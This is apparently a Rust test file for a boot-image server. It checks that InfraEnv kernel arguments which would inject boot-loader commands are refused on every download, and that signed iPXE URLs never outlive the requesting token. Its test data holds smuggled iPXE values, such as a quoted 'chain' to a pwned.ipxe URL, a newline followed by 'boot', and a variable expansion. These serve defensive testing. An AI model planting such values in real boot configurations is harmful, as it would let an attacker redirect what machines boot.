//! Hostile InfraEnv inputs and URLs that would outlive their token (issue 30): kernel arguments that
//! would read as more than one argument to iPXE, GRUB or the kernel are refused with a condition,
//! every download of an InfraEnv whose image failed answers the same 409, and a URL handed out
//! while answering a request never outlives the token that request presented.

use crate::common;

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use base64::Engine as _;
use bootstream::auth::urlsign::UrlSigner;
use common::*;

/// Every download of InfraEnv `id`'s own files (unsigned server: `/byid/` and `/images/` need no
/// token), by name.
fn downloads(id: &str) -> Vec<(&'static str, String)> {
    let files = format!("/api/assisted-install/v2/infra-envs/{id}/downloads/files");
    vec![
        ("full ISO", format!("/byid/{id}/4.20/x86_64/full.iso")),
        ("minimal ISO", format!("/images/{id}?type=minimal-iso&version=4.20&arch=x86_64")),
        ("PXE initrd", format!("/images/{id}/pxe-initrd?version=4.20&arch=x86_64")),
        ("iPXE script", format!("{files}?file_name=ipxe-script")),
        (
            "iPXE boot-order-control script",
            format!("{files}?file_name=ipxe-script&ipxe_script_type=boot-order-control"),
        ),
        ("discovery Ignition", format!("{files}?file_name=discovery.ign")),
        ("static network config", format!("{files}?file_name=static-network-config")),
    ]
}

/// Applies an InfraEnv with `kernel_arguments` (YAML list items) and checks that its image is
/// refused with a message containing `why`, and that every one of its downloads answers 409 with
/// the same message.
fn assert_refused_everywhere(server: &Server, name: &str, kernel_arguments: &str, why: &str) {
    server.apply_ok(&infraenv_yaml("t", name, &format!("  kernelArguments:\n{kernel_arguments}")));
    let ie = server.wait_image_created("t", name, "False");
    let condition = condition(&ie, "ImageCreated").unwrap();
    assert_eq!(condition["reason"], "ImageCreationError");
    let message = condition["message"].as_str().unwrap();
    assert!(message.contains(why), "{name}: {message}");
    assert!(!message.bytes().any(|b| b.is_ascii_control()), "{name}: a raw control character in {message:?}");
    let id = ie["metadata"]["uid"].as_str().unwrap();
    for (what, path) in downloads(id) {
        let r = server.get(&path);
        assert_eq!(r.status, 409, "{name}: {what} answered {} {:.300}", r.status, r.text());
        assert!(message.ends_with(r.text().trim()), "{name}: {what} says {:?}, the condition {message:?}", r.text());
    }
}

#[test]
fn kernel_arguments_that_would_inject_boot_loader_commands_refuse_every_artifact() {
    let server = Server::start(&[]);
    server.apply_ok(&pull_secret_yaml("t"));
    // A second iPXE command between quotes (the kernel would read one argument).
    assert_refused_everywhere(
        &server,
        "chain",
        "  - operation: append\n    value: 'x=\"a ; chain http://127.0.0.1:9/pwned.ipxe #\"'\n",
        "spec.kernelArguments[0]",
    );
    // A line break between quotes: a new line in the script and in GRUB's config.
    assert_refused_everywhere(
        &server,
        "newline",
        "  - operation: append\n    value: \"x=\\\"a\\nboot\\\"\"\n",
        "control characters",
    );
    // A setting iPXE would expand.
    assert_refused_everywhere(
        &server,
        "expansion",
        "  - operation: append\n    value: 'x=${net0/mac}'\n",
        "mean something to iPXE or GRUB",
    );
    // Well-formed, but too long for the ISO's karg area: the image cannot be made whole, so the
    // PXE initrd and the rest answer 409 too, not only the ISO.
    assert_refused_everywhere(
        &server,
        "long",
        &format!("  - operation: append\n    value: x={}\n", "a".repeat(1500)),
        "kargs too large for area",
    );
    // A good InfraEnv beside them is served.
    server.apply_ok(&infraenv_yaml(
        "t",
        "good",
        "  kernelArguments:\n  - operation: append\n    value: rd.net.timeout.carrier=60\n",
    ));
    let ie = server.wait_image_created("t", "good", "True");
    let id = ie["metadata"]["uid"].as_str().unwrap();
    let script = server.get(&format!("/api/assisted-install/v2/infra-envs/{id}/downloads/files?file_name=ipxe-script"));
    assert_eq!(script.status, 200);
    assert!(script.text().contains(" rd.net.timeout.carrier=60\n"), "{}", script.text());
}

/// The expiry (Unix seconds) of a signed URL's token.
fn expiry_of_token(token: &str) -> Option<u64> {
    let payload = token.split('.').nth(1).expect("a JWT");
    let claims: serde_json::Value =
        serde_json::from_slice(&base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(payload).unwrap()).unwrap();
    claims["exp"].as_u64()
}

/// The `api_key` of every URL in an iPXE script.
fn tokens_in(script: &str) -> Vec<String> {
    script
        .split_whitespace()
        .filter_map(|w| w.split("api_key=").nth(1))
        .map(|t| t.split('&').next().unwrap().to_string())
        .collect()
}

#[test]
fn urls_handed_out_with_an_answer_expire_with_the_token_that_asked() {
    let server = Server::start_signed(&[]);
    server.apply_ok(&pull_secret_yaml("t"));
    server.apply_ok(&infraenv_yaml("t", "pxe", ""));
    let ie = server.wait_image_created("t", "pxe", "True");
    let id = ie["metadata"]["uid"].as_str().unwrap();
    // A token with 15 s left, signed with the server's key as the status's are.
    let signer = UrlSigner::from_files(&server.data_dir.path().join("url-signing.pem"), &[]).unwrap();
    let lifetime = bootstream::auth::urlsign::TOKEN_LIFETIME;
    let short = signer.sign(id, SystemTime::now() - lifetime + Duration::from_secs(15));
    let short_expiry = expiry_of_token(&short).unwrap();
    assert!(short_expiry <= SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() + 15);

    let files = format!("/api/assisted-install/v2/infra-envs/{id}/downloads/files");
    for query in ["file_name=ipxe-script", "file_name=ipxe-script&ipxe_script_type=boot-order-control"] {
        for (how, path, headers) in [
            ("api_key", format!("{files}?{query}&api_key={short}"), vec![]),
            ("Image-Token header", format!("{files}?{query}"), vec![("Image-Token", short.as_str())]),
        ] {
            let r = server.request("GET", &path, &headers);
            assert_eq!(r.status, 200, "{query} by {how}: {}", r.text());
            let tokens = tokens_in(&r.text());
            assert!(!tokens.is_empty(), "{query}: no signed URL in {}", r.text());
            for t in tokens {
                let expiry = expiry_of_token(&t);
                assert!(
                    expiry.is_some_and(|e| e <= short_expiry),
                    "{query} by {how}: a URL valid until {expiry:?}, the request's token until {short_expiry}"
                );
            }
        }
    }
}
